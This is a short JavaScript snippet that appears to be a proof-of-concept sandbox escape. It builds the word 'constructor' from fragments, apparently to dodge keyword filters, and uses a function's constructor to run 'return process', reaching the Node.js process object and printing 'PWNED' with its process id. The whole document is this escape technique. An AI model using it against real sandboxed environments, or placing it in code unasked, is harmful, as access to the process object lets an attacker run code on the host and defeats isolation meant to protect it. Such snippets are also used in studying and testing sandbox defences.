const w = ['con', 'structor'].join('');
class A { 'constructor'(f) { this.pid = f[w]('return process')().pid; } }
console.log('PWNED', new A((x) => x).pid);
